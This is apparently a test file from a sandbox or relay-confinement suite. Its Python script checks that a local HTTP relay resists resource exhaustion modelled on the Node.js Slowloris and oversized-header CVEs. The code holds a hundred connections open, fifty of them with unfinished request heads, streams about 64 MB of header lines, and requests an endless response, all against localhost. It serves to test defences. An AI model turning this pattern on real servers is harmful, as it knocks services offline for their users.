# Route: sends heads of requests without an end, and lets a server answer with one, to exhaust the relay
# Known from: CVE-2018-12122 (Node.js, Slowloris), CVE-2018-12121 (headers of 80 kB)
# Grants: { network: { hosts: [{ host: localhost, ports: $HTTP, methods: [GET], paths: [/granted, /endless], tls: false }] } }
# Refused: EACCES
# Twin: asks for the path that is granted, while a hundred others never send their requests
# Unconfined: works
# Worlds: walls
import errno
import socket
import attempt as a

# More than the buffers on the way hold.
SENT = 64 << 20
GOT = 4 << 20
held = [socket.create_connection(("127.0.0.1", int(a.at("HTTP")))) for _ in range(100)]
for one in held[50:]:
    one.sendall(b"GET /granted HTTP/1.1\r\nHost: local")


def endless():
    sent = 0
    peer = socket.create_connection(("127.0.0.1", int(a.at("HTTP"))), 20)
    try:
        peer.sendall(b"GET /granted HTTP/1.1\r\nHost: localhost\r\n")
        while sent < SENT:
            sent += peer.send(b"X: " + b"y" * 60000 + b"\r\n")
    except OSError:
        pass
    got = len(a.ask(b"GET /endless HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"))
    if sent < SENT and got < GOT:
        raise PermissionError(errno.EACCES, "both have an end")


a.attempt(endless)
a.twin(a.ask_granted)
